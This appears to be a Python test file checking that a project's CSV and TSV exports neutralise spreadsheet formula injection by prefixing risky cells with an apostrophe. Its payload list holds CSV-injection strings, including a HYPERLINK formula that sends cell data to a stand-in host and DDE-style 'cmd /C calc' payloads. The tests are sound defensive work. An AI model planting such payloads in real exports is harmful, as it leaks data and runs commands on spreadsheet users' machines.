"""CSV and TSV exports never hand a spreadsheet a formula: a cell that starts like one gets an apostrophe."""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest

from tacitus.analyst.exchange import write_layout
from tacitus.store import write_rows
from tacitus.store.cells import safe_cell
from tacitus.store.rows import ArticleRow

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1dHYPERLINK(1)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_get_an_apostrophe(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["-3.5", "+1", "1e-3", "Lavrov", "", None, 4, -2.5, "a=b"])
def test_numbers_and_plain_text_are_unchanged(value):
    assert safe_cell(value) == value


def test_csv_export_of_articles_with_formula_titles(filled):
    rows = [
        dataclasses.replace(row, title=payload, url=payload)
        for row, payload in zip(filled.articles(), PAYLOADS, strict=False)
    ]
    out = io.StringIO()
    write_rows(rows, "csv", out, row_type=ArticleRow)
    read = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert read and all(r["title"].startswith("'") and r["url"].startswith("'") for r in read)


def test_tsv_layout_export_neutralises_names(filled):
    rows = filled.events()
    document = filled.document(rows[0].article_id)
    evil = document.model_copy(
        update={"actors": [a.model_copy(update={"name": PAYLOADS[0]}) for a in document.actors]}
    )
    out = io.StringIO()
    write_layout(rows, "polecat", lambda article_id: evil if article_id == rows[0].article_id else None, out)
    cells = [
        cell for row in list(csv.reader(io.StringIO(out.getvalue()), delimiter="\t"))[1:] for cell in row
    ]
    assert cells and not any(cell.startswith(("=", "@", "+")) for cell in cells)
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
